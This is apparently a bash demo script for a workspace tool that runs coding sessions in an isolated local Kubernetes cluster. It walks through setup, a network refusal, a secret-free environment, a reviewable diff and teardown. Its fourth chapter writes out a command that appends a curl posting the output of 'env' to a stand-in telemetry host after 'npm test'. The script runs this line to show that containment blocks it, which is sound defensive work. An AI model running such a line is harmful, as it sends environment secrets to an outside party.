#!/usr/bin/env bash
# The demo: a coding session contained in a real cluster, told as it happens.
set -euo pipefail
cd "$(dirname "$0")/../.."

source tests/built.sh
lab=$built/lab
ws=$built/ws

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then bold=$'\e[1m' dim=$'\e[2m' plain=$'\e[0m'; else bold='' dim='' plain=''; fi
chapter() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }
say() { printf '%s\n' "$*"; }
# Shows a command as a user would type it, then runs it.
show() {
  printf '%s$ %s%s\n' "$dim" "$(printf '%s' "$*" | sed "s|$ws|ws|g; s|$bin/kubectl|kubectl|g")" "$plain"
  "$@"
}
fail() { printf 'demo: %s\n' "$*" >&2; exit 1; }

project=$(mktemp -d)
notes=$(mktemp -d)
cleanup() { rm -rf "$project" "$notes"; "$lab" down; }
trap cleanup EXIT

chapter '1  A cluster: real Kubernetes on this machine, in network namespaces of its own'
"$lab" down
"$lab" up
bin=$("$lab" status --json | python3 -c 'import json, sys; print(json.load(sys.stdin)["binaries"])')
KUBECONFIG=$("$lab" kubeconfig)
export KUBECONFIG
show "$bin/kubectl" get nodes

chapter '2  ws: installed as an admin does it'
tests/install.sh chart
show "$bin/kubectl" -n ws-system get deployments

chapter '3  A project, and a workspace for it'
cp -r tests/demo/project/. "$project"
export TOKEN=not-for-the-pod
say "A Node project in $project; the laptop's environment holds TOKEN=$TOKEN."
cd "$project"
show "$ws" up --name demo --detach

chapter '4  The line that no filter stops'
line='npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"'
printf "%s$ ws attach demo -- bash -c '%s'%s\n" "$dim" "$line" "$plain"
"$ws" attach demo -- bash -c "$line; echo \"curl ended with \$?\"" | tee "$notes/output"
grep -q '# pass 3' "$notes/output" || fail 'the tests of the project did not run'
grep -q 'curl ended with 0' "$notes/output" && fail 'the request went out'
say 'The tests ran. The request did not leave the pod, and the cluster knows who asked:'
for _ in $(seq 50); do "$ws" describe demo | grep -q telemetry.example && break; sleep 0.1; done
show "$ws" describe demo
"$ws" describe demo | grep -q telemetry.example || fail 'the refusal is not reported'

chapter '5  What there was to steal'
show "$ws" attach demo -- env | tee "$notes/env"
grep -q 'not-for-the-pod' "$notes/env" && fail 'the laptop'\''s environment is in the pod'
grep -qiE 'key|token|secret|password' "$notes/env" && fail 'there is a secret in the environment'

chapter '6  The work comes back as a change to review'
show "$ws" attach demo -- sed -i "s/'NFKD'/'NFKC'/" src/slug.js
show "$ws" diff demo
show "$ws" pull demo
grep -q NFKC src/slug.js || fail 'the edit did not come back'

chapter '7  And then it is gone'
show "$ws" down demo
left() { "$bin/kubectl" -n default get workspaces,pods,secrets,networkpolicies -o name; }
# The class's policy goes with its last workspace, a moment later.
for _ in $(seq 50); do [ -z "$(left)" ] && break; sleep 0.1; done
left=$(left)
[ -z "$left" ] || fail "left on the cluster: $left"
say 'Nothing is left: no workspace, no pod, no secret, no network policy.'
say "All of this took $SECONDS s."
